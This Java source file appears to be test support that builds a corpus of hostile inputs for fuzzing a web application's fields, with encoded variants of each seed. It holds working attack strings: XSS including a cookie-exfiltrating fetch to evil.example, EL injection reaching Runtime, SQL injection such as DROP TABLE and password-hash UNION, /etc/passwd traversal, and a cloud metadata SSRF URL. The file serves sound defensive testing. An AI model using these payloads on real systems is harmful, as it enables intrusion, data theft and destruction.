package vn.vigil.liberty;

import jakarta.json.Json;
import jakarta.json.JsonArrayBuilder;
import jakarta.json.JsonValue;
import java.math.BigDecimal;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.text.Normalizer;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Set;

/**
 * A corpus of awkward and hostile values for every field and parameter: script and EL injection, SQL fragments,
 * Unicode tricks (combining marks, zero-width and direction characters, full-width forms, emoji, homoglyphs), control
 * characters and NUL, numbers too large, negative or not numbers at all, impossible dates, empty and huge strings,
 * paths and URLs, and values of the wrong JSON type. Each seed is also sent in a few disguises (inside Vietnamese
 * text, upper-cased, decomposed, split by a zero-width space, URL- and HTML-encoded), as an attacker would try.
 */
final class HostileValues {

    /** Strings that would do harm if run, interpreted or trusted. */
    static final List<String> SEEDS = List.of(
            // script
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "<svg/onload=alert(document.cookie)>",
            "javascript:alert(1)",
            "'';!--\"<XSS>=&{()}",
            "<iframe src=\"//evil.example\"></iframe>",
            "<a href=\"javascript:alert(1)\">Bấm</a>",
            "</textarea><script>fetch('//evil.example?c='+document.cookie)</script>",
            "<body onload=alert(1)>",
            "<style>@import'//evil.example/x.css';</style>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "\u003cscript\u003ealert(1)\u003c/script\u003e",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "PrimeFaces.ab({s:'x'});alert(1)//",
            "')};alert(1);//",
            // EL and templates
            "#{7*7}",
            "${7*7}",
            "#{facesContext.externalContext.sessionMap}",
            "${applicationScope}",
            "#{''.getClass().forName('java.lang.Runtime').getRuntime()}",
            "{{7*7}}",
            "<%= 7*7 %>",
            "#{request.getSession().invalidate()}",
            "${T(java.lang.System).exit(0)}",
            // SQL
            "' OR '1'='1",
            "'; DROP TABLE core.staff; --",
            "1; SELECT pg_sleep(30)",
            "' UNION SELECT username, password_hash FROM core.staff --",
            "%",
            "_",
            "%%%%%%%%%%",
            "\\",
            "$$; DELETE FROM core.audit_entry; $$",
            "E'\\x00'",
            "'||(SELECT current_user)||'",
            "0) OR (1=1",
            "ORDER BY 1--",
            "\" OR \"\"=\"",
            // Unicode tricks
            "Nguye\u0302\u0303n Va\u0306n A\u0300n",
            "a\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
            "\u200b\u200c\u200d\ufeff",
            "admin\u200b",
            "\u202eevil\u202c.exe",
            "ＡＢＣ１２３　Ｋａｒａｏｋｅ",
            "👩‍👩‍👧‍👦🇻🇳💥",
            "Аdmin",
            "Hà\u00a0Nội",
            "line\u2028separator\u2029paragraph",
            "Đồng Nai\u0000",
            "\ud83d",
            "𝕍𝕚𝕘𝕚𝕝",
            "ﷺ ﷽",
            "Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇",
            // control characters
            "\u0000",
            "abc\u0000def",
            "\u0007\u0008\u001b[31mred\u001b[0m",
            "\r\nSet-Cookie: VIGILSESSION=stolen",
            "\t\t\t",
            "\u007f\u0085",
            "%00",
            "%0d%0aLocation:%20//evil.example",
            // numbers written as text
            "-1",
            "0",
            "-0",
            "1e309",
            "NaN",
            "Infinity",
            "9223372036854775808",
            "-9223372036854775809",
            "99999999999999999999999999999999999999",
            "0x7fffffff",
            "1.5",
            "١٢٣",
            "１２３",
            "1,000,000",
            "+84 912 345 678",
            // dates
            "2026-02-30",
            "2026-13-01",
            "0000-00-00",
            "9999-12-31",
            "-0001-01-01",
            "2026-1-1",
            "31/12/2026",
            "2026-12-31T25:61:61",
            "1970-01-01T00:00:00Z",
            "+292278994-08-17",
            // lengths
            "",
            " ",
            "a".repeat(256),
            "Đ".repeat(2049),
            // paths and addresses
            "../../../../etc/passwd",
            "..%2f..%2f..%2fetc%2fpasswd",
            "C:\\Windows\\System32",
            "file:///etc/passwd",
            "http://169.254.169.254/latest/meta-data/",
            "//evil.example",
            // JSON-looking text
            "{}",
            "[]",
            "null",
            "true",
            "\"",
            "{\"$ne\":null}");

    /** Sent once each, as they are: a string of 64 KiB and one of 1 MiB. */
    static final List<String> HUGE = List.of("x".repeat(65_536), "Ư".repeat(1_048_576 / 2));

    private HostileValues() {}

    /** The corpus: every seed in each disguise, the huge strings, then values of the wrong JSON type. */
    static List<JsonValue> corpus() {
        Set<String> strings = new LinkedHashSet<>();
        for (String seed : SEEDS) {
            strings.add(seed);
            strings.add("Karaoke Hoa Sen " + seed);
            strings.add(seed + " phường Trấn Biên");
            strings.add(seed.toUpperCase(Locale.ROOT));
            strings.add(seed + seed);
            strings.add("  " + seed + "  ");
            strings.add(Normalizer.normalize(seed, Normalizer.Form.NFD));
            strings.add(seed.length() > 1 ? seed.charAt(0) + "\u200b" + seed.substring(1) : seed + "\u200b");
            strings.add(URLEncoder.encode(seed, StandardCharsets.UTF_8));
            strings.add(seed.replace("<", "&lt;").replace(">", "&gt;") + "&#x3c;");
            strings.add("\"" + seed + "\"");
            strings.add(seed + "\n");
            strings.add(fullWidth(seed));
        }
        List<JsonValue> corpus = new ArrayList<>();
        strings.forEach(s -> corpus.add(Json.createValue(s)));
        HUGE.forEach(s -> corpus.add(Json.createValue(s)));
        corpus.addAll(wrongTypes());
        return List.copyOf(corpus);
    }

    /** ASCII letters, digits and signs in their full-width forms, as some Vietnamese input methods type them. */
    static String fullWidth(String text) {
        StringBuilder wide = new StringBuilder(text.length());
        text.chars().forEach(c -> wide.append(c > 0x20 && c < 0x7f ? (char) (c + 0xfee0) : (char) c));
        return wide.toString();
    }

    /** Numbers, booleans, nulls, arrays and objects where a field expects something else. */
    static List<JsonValue> wrongTypes() {
        List<JsonValue> values = new ArrayList<>();
        for (String number : List.of(
                "-1",
                "0",
                "-0.0",
                "2147483648",
                "-2147483649",
                "9223372036854775807",
                "9223372036854775808",
                "-9223372036854775809",
                "1e308",
                "1e-308",
                "123456789012345678901234567890.123456789",
                "0.1",
                "-99999999999999999999")) {
            values.add(Json.createValue(new BigDecimal(number)));
        }
        values.add(JsonValue.TRUE);
        values.add(JsonValue.FALSE);
        values.add(JsonValue.NULL);
        values.add(JsonValue.EMPTY_JSON_ARRAY);
        values.add(JsonValue.EMPTY_JSON_OBJECT);
        values.add(Json.createArrayBuilder().add("a").add(1).addNull().build());
        values.add(
                Json.createObjectBuilder().add("$gt", "").add("__proto__", "x").build());
        JsonArrayBuilder many = Json.createArrayBuilder();
        for (int i = 0; i < 10_000; i++) {
            many.add(i);
        }
        values.add(many.build());
        values.add(nested(200));
        return values;
    }

    /** An array inside an array, {@code depth} deep. */
    static JsonValue nested(int depth) {
        JsonValue value = JsonValue.EMPTY_JSON_ARRAY;
        for (int i = 0; i < depth; i++) {
            value = Json.createArrayBuilder().add(value).build();
        }
        return value;
    }

    /** A value written into a URL: strings as they are, anything else as its JSON text. */
    static String asText(JsonValue value) {
        return value.getValueType() == JsonValue.ValueType.STRING
                ? ((jakarta.json.JsonString) value).getString()
                : value.toString();
    }
}
